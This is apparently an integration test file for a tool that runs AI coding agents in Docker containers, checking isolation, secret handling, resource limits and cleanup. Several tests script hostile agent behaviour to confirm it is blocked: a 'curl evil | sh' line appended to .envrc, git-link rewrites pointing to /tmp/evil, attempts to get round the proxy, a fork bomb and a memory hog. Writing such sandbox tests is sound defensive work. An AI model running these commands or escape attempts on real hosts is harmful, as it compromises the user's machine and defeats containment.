// Container sessions end to end: the built para and para-mcp-server against
// the real dockerd, agents in containers from the busybox test image, the
// real session proxy and para-relay for isolated ones. Test names resolve
// to loopback servers of this test through the user's proxy pins.

#include <doctest/doctest.h>

#include <csignal>
#include <filesystem>
#include <sstream>

#include "docker/containers.h"
#include "tests/docker/fixtures.h"
#include "tests/docker/result_printer.h"
#include "tests/integration/docker/session_helpers.h"
#include "tests/integration/proxy/fixtures.h"
#include "tests/integration/sandbox/session_fixture.h"
#include "tests/integration/sessions/para_repo.h"

namespace para::test {
namespace {

using nlohmann::json;
namespace dt = docker::test;

TEST_SUITE("docker/sessions") {
  TEST_CASE(
      "a container session: the agent works in /workspace, finish commits it, no "
      "container remains, and the forwarded keys are seen only inside, GITHUB_TOKEN not at all") {
    ParaRepo r;
    container_config(r,
                     "echo from-container > /workspace/result.txt\n"
                     // A status report as `para status` writes it (schemas/status.schema.json).
                     "printf '{\"session_name\":\"box\",\"current_task\":\"wrote result\","
                     "\"test_status\":\"passed\",\"is_blocked\":false,\"blocked_reason\":null,"
                     "\"last_update\":\"2026-01-01T00:00:00Z\"}' > \"$PARA_STATUS_FILE\"\n"
                     // The secret split in two shell words, so that the agent
                     // command (stored in the state) does not contain it.
                     "[ \"$ANTHROPIC_API_KEY\" = \"" +
                         std::string(kSecret).substr(0, 8) + "\"\"" +
                         std::string(kSecret).substr(8) +
                         "\" ] && echo KEY-PRESENT\n"
                         "[ -n \"$CLAUDE_CODE_OAUTH_TOKEN\" ] && echo OAUTH-PRESENT\n"
                         "echo \"GITHUB ${GITHUB_TOKEN:-unset} ${PERPLEXITY_API_KEY:-unset}\"\n"
                         "echo AGENT-DONE\n");
    // GITHUB_TOKEN and PERPLEXITY_API_KEY, which para forwarded, stay out
    // by default: the proxy allows github.com, where the token could push.
    const std::string github = "ghp_" + std::string(36, 'g');
    Completed start = para_with_env(
        r, {"start", "box", "--container", "-p", "write it", "--json"},
        {std::string("ANTHROPIC_API_KEY=") + kSecret, "CLAUDE_CODE_OAUTH_TOKEN=sk-ant-oat-test",
         "GITHUB_TOKEN=" + github, "PERPLEXITY_API_KEY=pplx-test"});
    REQUIRE_MESSAGE(start.exit_code == 0, start.err);
    REQUIRE(wait_until([&] { return agent_done(r, "box"); }, std::chrono::seconds(60)));
    const std::string log = session_log(r, "box");
    INFO(log);
    CHECK(contains(log, "KEY-PRESENT"));
    CHECK(contains(log, "OAUTH-PRESENT"));
    CHECK(contains(log, "GITHUB unset unset\n"));
    CHECK(contains(log, "AGENT-DONE"));
    CHECK(contains(log, "the agent's container exited with code 0"));
    CHECK(read_text(r.worktree("box") + "/result.txt") == "from-container\n");

    const json state = session_state(r, "box");
    REQUIRE(state["session_type"].is_object());  // para's {"Container": {"container_id": ...}}
    CHECK(state["session_type"]["Container"]["container_id"].is_string());
    CHECK(state["container"]["image"] == dt::kTestImage);
    Completed status = r.para({"status", "show", "box", "--json"});
    CHECK(status.exit_code == 0);
    CHECK(contains(status.out, "wrote result"));
    Completed list = r.para({"list", "-v", "--json"});

    Completed finish = r.para({"finish", "container work", "box", "--json"});
    REQUIRE_MESSAGE(finish.exit_code == 0, finish.err);
    CHECK(r.repo().git({"show", "para/box:result.txt"}).out == "from-container\n");
    CHECK(session_containers("box").empty());

    // The key's value is nowhere but in the container's environment.
    for (const Completed* c : {&start, &status, &list, &finish}) {
      CHECK_FALSE(contains(c->out + c->err, kSecret));
      CHECK_FALSE(contains(c->out + c->err, github));
    }
    CHECK_FALSE(contains(all_files(r.state_dir()), kSecret));
    CHECK_FALSE(contains(r.repo().git({"log", "-p", "--all"}).out, kSecret));
  }

  TEST_CASE("docker.forward_env_keys replaces the default list: GITHUB_TOKEN when listed") {
    ParaRepo r;
    container_config(
        r,
        "echo \"GITHUB ${GITHUB_TOKEN:-unset} ANTHROPIC ${ANTHROPIC_API_KEY:-unset}\"\n"
        "echo \"EXPLICIT ${EXPLICIT_TOKEN:-unset}\"\n",
        "forward_env_keys = [\"GITHUB_TOKEN\"]\n");
    // A value given in docker_args reaches the agent, never a listing.
    Completed start = para_with_env(r,
                                    {"start", "gh", "--container", "--docker-args", "-e",
                                     "--docker-args", "EXPLICIT_TOKEN=value-in-args", "-p", "x"},
                                    {"GITHUB_TOKEN=ghp-listed", "ANTHROPIC_API_KEY=sk-not-listed"});
    REQUIRE_MESSAGE(start.exit_code == 0, start.err);
    REQUIRE(wait_until([&] { return agent_done(r, "gh"); }, std::chrono::seconds(60)));
    CHECK(contains(session_log(r, "gh"), "GITHUB ghp-listed ANTHROPIC unset\n"));
    CHECK(contains(session_log(r, "gh"), "EXPLICIT value-in-args\n"));
    const Completed list = r.para({"list", "-v", "--json"});
    CHECK(contains(list.out, "EXPLICIT_TOKEN=[redacted]"));
    CHECK_FALSE(contains(list.out + start.out, "value-in-args"));
    CHECK(r.para({"cancel", "gh", "--force"}).exit_code == 0);
  }

  TEST_CASE(
      "the container's agent cannot rewrite the worktree's git links or protected files; its "
      "work still commits") {
    ParaRepo r;
    r.repo().write(".envrc", "export SAFE=1\n");
    r.repo().commit_all("an .envrc the user's direnv trusts");
    // Each link, rewritten, would point the host's next git command (para's
    // or the user's own in the worktree) at a config the agent wrote.
    container_config(r,
                     "A=$(cat /workspace/.git); A=${A#gitdir: }\n"
                     "echo /tmp/evil > \"$A/commondir\" && echo COMMONDIR-WRITTEN\n"
                     "echo /tmp/evil > \"$A/gitdir\" && echo GITDIR-WRITTEN\n"
                     "echo '[core]' > \"$A/config.worktree\" && echo CONFIGWT-WRITTEN\n"
                     "echo 'gitdir: /tmp/evil' > /workspace/.git && echo DOTGIT-WRITTEN\n"
                     "echo 'curl evil | sh' >> /workspace/.envrc && echo ENVRC-WRITTEN\n"
                     "echo work > /workspace/work.txt && echo WORK-WRITTEN\n"
                     "echo AGENT-DONE\n");
    Completed start = r.para({"start", "links", "--container", "-p", "x"});
    REQUIRE_MESSAGE(start.exit_code == 0, start.err);
    REQUIRE(wait_until([&] { return agent_done(r, "links"); }, std::chrono::seconds(60)));
    const std::string log = session_log(r, "links");
    INFO(log);
    CHECK(contains(log, "AGENT-DONE"));
    CHECK(contains(log, "WORK-WRITTEN"));
    for (const char* written : {"COMMONDIR-WRITTEN", "GITDIR-WRITTEN", "CONFIGWT-WRITTEN",
                                "DOTGIT-WRITTEN", "ENVRC-WRITTEN"}) {
      CHECK_FALSE(contains(log, written));
    }
    CHECK(read_text(r.worktree("links") + "/.envrc") == "export SAFE=1\n");
    Completed finish = r.para({"finish", "work", "links"});
    REQUIRE_MESSAGE(finish.exit_code == 0, finish.err);
    CHECK(r.repo().git({"show", "para/links:work.txt"}).out == "work\n");
  }

  TEST_CASE("cancel stops and removes the container and archives the branch") {
    ParaRepo r;
    container_config(r, "echo started; sleep 300\n");
    Completed start = r.para({"start", "longrun", "--container", "-p", "wait"});
    REQUIRE_MESSAGE(start.exit_code == 0, start.err);
    REQUIRE(wait_until([&] { return contains(session_log(r, "longrun"), "started"); },
                       std::chrono::seconds(30)));
    REQUIRE(session_containers("longrun").size() == 1);
    // Without configured limits, a process limit still guards the host.
    Result<docker::ContainerState> inspected =
        docker::inspect_container(dt::test_client(), session_containers("longrun")[0].id);
    REQUIRE(inspected);
    CHECK(inspected->host_config["PidsLimit"] == 4096);
    Completed cancel = r.para({"cancel", "longrun", "--force", "--json"});
    REQUIRE_MESSAGE(cancel.exit_code == 0, cancel.err);
    CHECK(session_containers("longrun").empty());
    CHECK(contains(r.repo().git({"branch", "--list", "para/archived/*"}).out, "/longrun"));
    CHECK(r.repo().git({"branch", "--list", "para/longrun"}).out.empty());
  }

  TEST_CASE(
      "an isolated container reaches an allowed name through the relay and nothing else; "
      "the network log has both decisions") {
    ParaRepo r;
    HttpServer http;
    const std::string hp = std::to_string(http.port());
    container_config(
        r,
        "t() { name=$1; shift; out=$(\"$@\" 2>&1); echo \"TRICK $name rc=$? $out\" | tr '\\n' ' '; "
        "echo; }\n"
        "t allowed wget -q -O - http://allowed.test:" +
            hp +
            "/ok\n"
            "t denied wget -q -O - http://denied.test:" +
            hp +
            "/no\n"
            "t direct wget -q -T 3 -Y off -O - http://127.0.0.1:" +
            hp +
            "/direct\n"
            "t dns nslookup allowed.test\n"
            "t ipv6 wget -q -T 3 -Y off -O - http://[::1]:" +
            hp +
            "/v6\n"
            "t udp sh -c 'echo x | nc -u -w 1 127.0.0.1 53'\n"
            "echo \"ENV $NODE_USE_ENV_PROXY $GRPC_PROXY $CLOUDSDK_PROXY_PORT\"\n"
            "echo AGENT-DONE\n");
    Completed start = r.para(
        {"start", "iso", "--container", "--allow-domains", "allowed.test:" + hp, "-p", "fetch"});
    REQUIRE_MESSAGE(start.exit_code == 0, start.err);
    REQUIRE(wait_until([&] { return agent_done(r, "iso"); }, std::chrono::seconds(60)));
    const std::string log = session_log(r, "iso");
    INFO(log);
    REQUIRE(contains(log, "AGENT-DONE"));
    CHECK(contains(log, "TRICK allowed rc=0 seen /ok"));
    // The variables other tools read (sandbox::proxy_environment), as in a sandbox.
    CHECK(contains(log, "ENV 1 http://127.0.0.1:8877 8877\n"));
    CHECK(contains(log, "403"));  // denied: the proxy's answer
    for (const char* trick : {"direct", "dns", "ipv6"}) {
      CAPTURE(trick);
      CHECK_FALSE(contains(log, std::string("TRICK ") + trick + " rc=0"));
    }
    // Only the allowed request reached the host's server.
    CHECK(http.requests() == std::vector<std::string>{"GET /ok"});
    const std::string network = read_text(r.state_dir() + "/iso.network.log");
    CHECK(contains(network, "\"allowed.test\""));
    CHECK(contains(network, "\"denied.test\""));
    CHECK(contains(network, "\"allow\""));
    CHECK(contains(network, "\"deny\""));
    const json state = session_state(r, "iso");
    CHECK(state["network_mode"] == "proxied");
    CHECK(r.para({"finish", "done", "iso"}).exit_code == 0);
    CHECK(session_containers("iso").empty());
  }

  TEST_CASE(
      "in a container, the repository's objects are read-only: a planted object file lands in "
      "the session's private store") {
    ParaRepo r;
    const std::string git_dir = std::filesystem::canonical(r.path() + "/.git").string();
    const std::string blob = r.repo().git_out({"rev-parse", "main:README.md"});
    const std::string loose = git_dir + "/objects/" + blob.substr(0, 2) + "/" + blob.substr(2);
    REQUIRE(std::filesystem::exists(loose));
    const std::string before = read_text(loose);
    container_config(r, "echo \"ALT $(cat " + git_dir +
                            "/objects/info/alternates)\"\n"
                            "ls /run/para/objects/" +
                            blob.substr(0, 2) +
                            " >/dev/null && echo SHARED-VISIBLE\n"
                            "mkdir -p " +
                            loose.substr(0, loose.rfind('/')) + "; rm -f " + loose +
                            "; echo EVIL > " + loose +
                            " && echo PLANTED\n"
                            "echo x > " +
                            git_dir +
                            "/objects/info/alternates || echo ALTERNATES-READ-ONLY\n"
                            "echo AGENT-DONE\n");
    REQUIRE(r.para({"start", "objs", "--container", "-p", "plant"}).exit_code == 0);
    REQUIRE(wait_until([&] { return agent_done(r, "objs"); }, std::chrono::seconds(60)));
    const std::string log = session_log(r, "objs");
    INFO(log);
    REQUIRE(contains(log, "AGENT-DONE"));
    CHECK(contains(log, "ALT /run/para/objects"));
    CHECK(contains(log, "SHARED-VISIBLE"));
    CHECK(contains(log, "PLANTED"));  // in the private store...
    CHECK(contains(log, "ALTERNATES-READ-ONLY"));
    CHECK(read_text(loose) == before);  // ...not in the repository's
    CHECK(r.repo().git_out({"show", "main:README.md"}) == "# test repository");
    CHECK(r.repo().git({"fsck", "--no-progress"}).exit_code == 0);
    CHECK(r.para({"cancel", "objs", "--force"}).exit_code == 0);
  }

  TEST_CASE(
      "limits from the config and docker_args are applied, and a fork bomb and a memory "
      "hog are stopped and reported") {
    ParaRepo r;
    container_config(r, "echo started; sleep 300\n",
                     "memory = \"32m\"\ncpus = 0.5\npids_limit = 40\n");
    Completed start =
        r.para({"start", "limited", "--container", "--docker-args", "--pids-limit=30", "-p", "x"});
    REQUIRE_MESSAGE(start.exit_code == 0, start.err);
    REQUIRE(wait_until([&] { return session_containers("limited").size() == 1; },
                       std::chrono::seconds(30)));
    Result<docker::ContainerState> inspected =
        docker::inspect_container(dt::test_client(), session_containers("limited")[0].id);
    REQUIRE(inspected);
    const json& hc = inspected->host_config;
    CHECK(hc["Memory"] == 32 * 1024 * 1024);
    CHECK(hc["NanoCpus"] == 500000000);
    CHECK(hc["PidsLimit"] == 30);  // docker_args override the config
    CHECK(hc["SecurityOpt"].dump().find("no-new-privileges") != std::string::npos);
    CHECK(hc["CapDrop"].dump().find("ALL") != std::string::npos);
    CHECK(r.para({"cancel", "limited", "--force"}).exit_code == 0);

    ParaRepo bomb;
    // After starting the bomb the shell uses builtins only (a loop of '[' and
    // arithmetic, then echo): ash exits when a fork fails, so anything that
    // forks would race the bomb for the last pids. The file shows the
    // container stayed usable while its forks were refused.
    container_config(bomb,
                     "b() { b | b & }; b; i=0; while [ $i -lt 100000 ]; do i=$((i+1)); done; "
                     "echo SURVIVED-FORKS > /workspace/survived\n",
                     "pids_limit = 20\n");
    REQUIRE(bomb.para({"start", "bomb", "--container", "-p", "x"}).exit_code == 0);
    REQUIRE(wait_until([&] { return agent_done(bomb, "bomb"); }, std::chrono::seconds(90)));
    INFO(session_log(bomb, "bomb"));
    CHECK(read_text(bomb.worktree("bomb") + "/survived") == "SURVIVED-FORKS\n");
    CHECK(contains(session_log(bomb, "bomb"), "fork"));  // its forks were refused
    CHECK(bomb.para({"cancel", "bomb", "--force"}).exit_code == 0);

    ParaRepo hog;
    container_config(hog, "x=a; while :; do x=$x$x; done\n", "memory = \"16m\"\n");
    REQUIRE(hog.para({"start", "hog", "--container", "-p", "x"}).exit_code == 0);
    REQUIRE(wait_until([&] { return agent_done(hog, "hog"); }, std::chrono::seconds(90)));
    const std::string log = session_log(hog, "hog");
    INFO(log);
    CHECK(contains(log, "killed by the out-of-memory killer (memory limit 16 MiB)"));
    CHECK(session_state(hog, "hog")["agent"]["oom_killed"] == true);
    Completed list = hog.para({"list", "-v"});
    CHECK(hog.para({"cancel", "hog", "--force"}).exit_code == 0);
    CHECK(session_containers("hog").empty());
  }

  TEST_CASE("under sandbox.enforce, docker_args may lower the configured limits, not raise them") {
    ParaRepo r;
    container_config(r, "echo started\n",
                     "memory = \"32m\"\npids_limit = 40\n\n[sandbox]\nenforce = true\n");
    const std::string before = r.snapshot();
    Completed raise = r.para({"start", "big", "--container", "--docker-args", "--pids-limit=0",
                              "--docker-args", "-m", "--docker-args", "1g", "-p", "x"});
    CHECK(raise.exit_code != 0);
    CHECK(contains(raise.err,
                   "--memory raises the configured memory limit; --pids-limit removes "
                   "the configured process limit"));
    CHECK(r.snapshot() == before);
    CHECK(session_containers("big").empty());
    Completed lower =
        r.para({"start", "small", "--container", "--docker-args", "--pids-limit=30", "-p", "x"});
    REQUIRE_MESSAGE(lower.exit_code == 0, lower.err);
    CHECK(r.para({"cancel", "small", "--force"}).exit_code == 0);
  }

  TEST_CASE(
      "the setup script runs in the container through exec before the agent starts; a "
      "failing one undoes the start") {
    ParaRepo r;
    container_config(r,
                     "[ -f /workspace/.setup-ran ] && echo AGENT-AFTER-SETUP\n"
                     "echo AGENT-DONE\n");
    // Sleeping first: an agent that did not wait for it would miss the file.
    const std::string good = r.script("setup.sh",
                                      "#!/bin/sh\nsleep 1\necho \"setup in $PARA_WORKSPACE for "
                                      "$PARA_SESSION\"\ntouch /workspace/.setup-ran\n");
    Completed start =
        r.para({"start", "withsetup", "--container", "--setup-script", good, "-p", "x"});
    REQUIRE_MESSAGE(start.exit_code == 0, start.err);
    REQUIRE(wait_until([&] { return agent_done(r, "withsetup"); }, std::chrono::seconds(60)));
    const std::string log = session_log(r, "withsetup");
    INFO(log);
    CHECK(contains(log, "setup in /workspace for withsetup"));
    CHECK(contains(log, "AGENT-AFTER-SETUP"));
    CHECK(r.para({"cancel", "withsetup", "--force"}).exit_code == 0);

    const std::string before = r.snapshot();
    const std::string bad = r.script("bad-setup.sh", "#!/bin/sh\necho setting up\nexit 3\n");
    Completed failed =
        r.para({"start", "badsetup", "--container", "--setup-script", bad, "-p", "x"});
    CHECK(failed.exit_code != 0);
    CHECK(contains(failed.err, "exited with code 3"));
    // Lock files stay by design (session/repo.h); everything else is as before.
    auto without_locks = [](const std::string& snapshot) {
      std::string out;
      for (const std::string& line : lines_starting(snapshot, "")) {
        if (!contains(line, "/.locks/")) out += line + "\n";
      }
      return out;
    };
    CHECK(without_locks(r.snapshot()) == without_locks(before));
    CHECK(session_containers("badsetup").empty());
  }

  TEST_CASE(
      "resume after the supervisor was killed replaces its container; a foreign container "
      "holding the name is never removed") {
    ParaRepo r;
    container_config(r, "echo run; sleep 300\n");
    REQUIRE(r.para({"start", "phoenix", "--container", "-p", "x"}).exit_code == 0);
    REQUIRE(wait_until([&] { return session_containers("phoenix").size() == 1; },
                       std::chrono::seconds(30)));
    const std::string first = session_containers("phoenix")[0].id;
    const int supervisor = session_state(r, "phoenix")["agent"]["supervisor_pid"].get<int>();
    ::kill(supervisor, SIGKILL);
    REQUIRE(wait_until([&] { return !pid_alive(supervisor); }));
    Completed resumed = r.para({"resume", "phoenix", "-p", "again"});
    REQUIRE_MESSAGE(resumed.exit_code == 0, resumed.err);
    const std::vector<docker::ContainerSummary> now = session_containers("phoenix");
    REQUIRE(now.size() == 1);
    CHECK(now[0].id != first);
    CHECK(r.para({"cancel", "phoenix", "--force"}).exit_code == 0);
    CHECK(session_containers("phoenix").empty());

    // A user's own container named like a session's is theirs.
    const std::string name = "taken" + std::to_string(::getpid());
    docker::ContainerSpec foreign_spec = docker::test::test_spec({"sleep", "300"});
    foreign_spec.name = "para-" + name;
    Result<std::string> foreign =
        docker::create_container(docker::test::test_client(), foreign_spec);
    REQUIRE(foreign);
    docker::test::ScopedContainer keep(docker::test::test_client(), *foreign);
    Completed taken = r.para({"start", name, "--container", "-p", "x"});
    CHECK(taken.exit_code != 0);
    CHECK(contains(taken.err, "already in use"));
    CHECK(docker::inspect_container(docker::test::test_client(), *foreign));
  }

  TEST_CASE(
      "the container starts while the worktree is checked out, but its agent only once it "
      "is; a checkout that fails removes the started container") {
    ParaRepo r;
    // A smudge filter that takes a second makes the checkout slower than
    // the container's start.
    r.repo().write(".gitattributes", "slow.txt filter=slow\n");
    r.repo().write("slow.txt", "checked out\n");
    r.repo().commit_all("a slow file");
    r.repo().git_out({"config", "filter.slow.smudge", "sleep 1; cat"});
    container_config(r,
                     "echo \"slow=[$(cat /workspace/slow.txt)]\"\n"
                     "[ -f /workspace/CLAUDE.local.md ] && echo INSTRUCTIONS-PRESENT\n"
                     "echo AGENT-DONE\n");
    Completed start = r.para({"start", "gate", "--container", "-p", "go"});
    REQUIRE_MESSAGE(start.exit_code == 0, start.err);
    REQUIRE(wait_until([&] { return agent_done(r, "gate"); }, std::chrono::seconds(60)));
    const std::string log = session_log(r, "gate");
    INFO(log);
    CHECK(contains(log, "slow=[checked out]"));
    CHECK(contains(log, "INSTRUCTIONS-PRESENT"));
    CHECK(log.find("starting the container") < log.find("starting the agent"));
    REQUIRE(r.para({"cancel", "gate", "--force"}).exit_code == 0);

    // Now the filter fails after its second: the container exists by then.
    r.repo().git_out({"config", "filter.slow.smudge", "sleep 1; exit 1"});
    r.repo().git_out({"config", "filter.slow.required", "true"});
    auto git_view = [&] {
      return r.repo().git_out({"branch", "-a"}) + r.repo().git_out({"worktree", "list"});
    };
    const std::string before = git_view();
    Completed failed = r.para({"start", "nogate", "--container", "-p", "go"});
    CHECK(failed.exit_code != 0);
    CHECK(contains(failed.err, "slow.txt"));
    CHECK(session_containers("nogate").empty());
    CHECK(live_supervisors(r.path()).empty());
    CHECK(git_view() == before);
    CHECK_FALSE(std::filesystem::exists(r.worktree("nogate")));
    CHECK_FALSE(std::filesystem::exists(r.state_dir() + "/nogate.state"));
    CHECK_FALSE(std::filesystem::exists(r.state_dir() + "/nogate.log"));
  }

  TEST_CASE("bad container requests fail before anything exists, with what to do") {
    ParaRepo r;
    container_config(r, "true\n");
    const std::string before = r.snapshot();
    // With a prompt the session's supervisor is already running by then:
    // it must be gone too. Without one there is none.
    Completed missing =
        r.para({"start", "m", "--container", "--docker-image", "para-no-such-image:1", "-p", "x"});
    CHECK(missing.exit_code != 0);
    CHECK(contains(missing.err, "para docker build-image"));
    CHECK(live_supervisors(r.path()).empty());
    Completed missing_no_agent =
        r.para({"start", "m", "--container", "--docker-image", "para-no-such-image:1"});
    CHECK(missing_no_agent.exit_code != 0);
    CHECK(contains(missing_no_agent.err, "para docker build-image"));
    for (const std::string& image : {std::string("../../etc/passwd"), std::string("a\nb"),
                                     std::string(), std::string(100000, 'a')}) {
      Completed hostile = r.para({"start", "m", "--container", "--docker-image", image, "-p", "x"});
      CHECK(hostile.exit_code != 0);
      CHECK(contains(hostile.err, "not an image reference"));
    }
    Completed bad_arg =
        r.para({"start", "m", "--container", "--docker-args", "--privileged", "-p", "x"});
    CHECK(bad_arg.exit_code != 0);
    CHECK(contains(bad_arg.err, "--cap-add"));  // the message lists what is supported
    Completed widen = r.para({"start", "m", "--container", "--allow-domains", "example.com",
                              "--docker-args", "--network=host", "-p", "x"});
    CHECK(widen.exit_code != 0);
    CHECK(contains(widen.err, "widen"));
    // A named volume may be bound to host files; -e NAME copies para's own
    // environment past docker.forward_env_keys.
    Completed volume = r.para({"start", "m", "--container", "--allow-domains", "example.com",
                               "--docker-args", "-v", "--docker-args", "vol:/v", "-p", "x"});
    CHECK(volume.exit_code != 0);
    CHECK(contains(volume.err, "-v vol mounts a Docker volume"));
    Completed inherit =
        para_with_env(r,
                      {"start", "m", "--container", "--allow-domains", "example.com",
                       "--docker-args", "-e", "--docker-args", "GITHUB_TOKEN", "-p", "x"},
                      {"GITHUB_TOKEN=ghp_inherited"});
    CHECK(inherit.exit_code != 0);
    CHECK(contains(inherit.err, "-e GITHUB_TOKEN copies a variable from para's environment"));
    CHECK_FALSE(contains(inherit.err, "ghp_inherited"));
    Completed no_container = r.para({"start", "m", "--docker-image", "x", "-p", "x"});
    CHECK(no_container.exit_code != 0);
    CHECK(contains(no_container.err, "--container"));
    CHECK(r.snapshot() == before);
    CHECK(session_containers("m").empty());
  }

  TEST_CASE(
      "in a repository that has had sessions, the supervisor checks the daemon while the start "
      "goes on; a missing image or a stopped daemon rolls the start back") {
    ParaRepo r;
    container_config(r, "true\n");
    REQUIRE(r.para({"start", "earlier"}).exit_code == 0);
    REQUIRE(r.para({"cancel", "earlier", "--force"}).exit_code == 0);
    // Session lock files stay, as after every session; the rest must not change.
    auto without_locks = [&] {
      std::string out;
      std::istringstream lines(r.snapshot());
      for (std::string line; std::getline(lines, line);) {
        if (line.find("/.locks/") == std::string::npos) out += line + "\n";
      }
      return out;
    };
    const std::string before = without_locks();

    Completed missing =
        r.para({"start", "m", "--container", "--docker-image", "para-no-such-image:1", "-p", "x"});
    CHECK(missing.exit_code != 0);
    CHECK(contains(missing.err, "para docker build-image"));
    Completed stopped = para_with_env(r, {"start", "m", "--container", "-p", "x"},
                                      {"DOCKER_HOST=unix://" + r.scratch() + "/no-daemon.sock"});
    CHECK(stopped.exit_code != 0);
    CHECK(contains(stopped.err, "not running"));
    CHECK(without_locks() == before);
    CHECK_FALSE(std::filesystem::exists(r.worktree("m")));
    CHECK(live_supervisors(r.path()).empty());
    CHECK(session_containers("m").empty());
  }

  TEST_CASE(
      "clean --containers removes para's orphans of this repo and never a foreign "
      "container, whatever its name") {
    ParaRepo r;
    container_config(r, "true\n");
    const docker::Client& client = dt::test_client();
    auto create = [&](const std::string& name, std::map<std::string, std::string> labels) {
      docker::ContainerSpec spec = dt::test_spec({"sleep", "300"});
      spec.name = name;
      for (auto& [k, v] : labels) spec.labels[k] = v;
      Result<std::string> id = docker::create_container(client, spec);
      REQUIRE_MESSAGE(id, (id ? "" : id.error().message));
      return *id;
    };
    const std::string suffix = std::to_string(::getpid());
    dt::ScopedContainer foreign(client, create("para-postgres-" + suffix, {}));
    dt::ScopedContainer orphan(
        client, create("para-gone-" + suffix,
                       {{docker::kSessionLabel, "gone"}, {docker::kRepoLabel, r.path()}}));
    dt::ScopedContainer other_repo(
        client, create("para-elsewhere-" + suffix,
                       {{docker::kSessionLabel, "gone"}, {docker::kRepoLabel, "/elsewhere"}}));
    Completed dry = r.para({"clean", "--containers", "--dry-run"});
    CHECK(dry.exit_code == 0);
    CHECK(contains(dry.out, "para-gone-" + suffix));
    CHECK(docker::inspect_container(client, orphan.id()));
    Completed clean = r.para({"clean", "--containers", "--force"});
    CHECK_MESSAGE(clean.exit_code == 0, clean.err);
    CHECK_FALSE(docker::inspect_container(client, orphan.id()));
    CHECK(docker::inspect_container(client, foreign.id()));
    CHECK(docker::inspect_container(client, other_repo.id()));
  }

  TEST_CASE("a remote engine over TLS: the workspace travels through the archive endpoints") {
    dt::TlsDaemon daemon;
    Result<docker::Client> remote = docker::Client::connect(daemon.endpoint());
    REQUIRE_MESSAGE(remote, (remote ? "" : remote.error().message));
    dt::ensure_test_image(*remote);
    ParaRepo r;
    container_config(r,
                     "cat /workspace/seed.txt > /workspace/copy.txt\n"
                     "echo remote >> /workspace/copy.txt\nrm /workspace/seed.txt\n");
    write_text(r.path() + "/seed.txt", "seed\n");
    r.repo().git({"add", "seed.txt"});
    r.repo().git({"commit", "-qm", "seed"});
    const std::vector<std::string> env = {
        "DOCKER_HOST=tcp://127.0.0.1:" + std::to_string(daemon.port()), "DOCKER_TLS_VERIFY=1",
        "DOCKER_CERT_PATH=" + daemon.cert_path()};
    Completed start = para_with_env(r, {"start", "far", "--container", "-p", "copy"}, env);
    REQUIRE_MESSAGE(start.exit_code == 0, (start.err + daemon.log()));
    REQUIRE(wait_until([&] { return agent_done(r, "far"); }, std::chrono::seconds(90)));
    INFO(session_log(r, "far"));
    Completed finish = para_with_env(r, {"finish", "remote work", "far"}, env);
    REQUIRE_MESSAGE(finish.exit_code == 0, finish.err);
    CHECK(r.repo().git({"show", "para/far:copy.txt"}).out == "seed\nremote\n");
    CHECK(r.repo().git({"ls-tree", "--name-only", "para/far"}).out.find("seed.txt") ==
          std::string::npos);
    Result<std::vector<docker::ContainerSummary>> left =
        docker::list_containers(*remote, {{docker::kSessionLabel, "far"}});
    REQUIRE(left);
    CHECK(left->empty());
  }
}

}  // namespace
}  // namespace para::test
